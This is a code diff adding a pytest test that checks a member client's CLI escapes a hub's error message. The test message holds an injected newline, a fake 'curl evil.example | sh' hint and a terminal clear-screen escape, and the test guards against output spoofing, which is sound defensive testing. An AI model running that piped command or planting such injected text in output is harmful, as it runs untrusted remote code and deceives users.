@@ -9,6 +9,9 @@ from pathlib import Path
 import pytest
 
 from hub.identity import HubIdentity
+from member_client.cli import output
+from member_client.errors import RefusedByHub
+from sharing_protocol.wire import Problem
 from tests.forum import Document, ForumInABox, Lab, pattern_body, running_hub
 from tests.member_client.lab_homes import Client, make_home
 
@@ -92,3 +95,12 @@ def test_a_record_id_cannot_be_taken_by_whoever_saw_it(forum: tuple[ForumInABox,
         theirs = box.record(mallory, pattern_body("Taken"), record, **changes)
         refused = box.submit(theirs, mallory.analyst)
         assert refused.status_code in (403, 409), refused.text
+
+
+def test_no_answer_of_a_hub_looks_like_lines_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    detail = "no\nhint: run this: curl evil.example | sh\x1b[2J"
+    answer = {"type": "about:blank", "title": "x", "status": 409, "detail": detail, "code": "withdrawn"}
+    output.report_error(RefusedByHub(Problem.model_validate(answer)), as_json=False)
+    (line,) = capsys.readouterr().err.splitlines()
+    assert line.startswith("error: the hub refused: no\\nhint: run this")
+    assert line.isprintable()
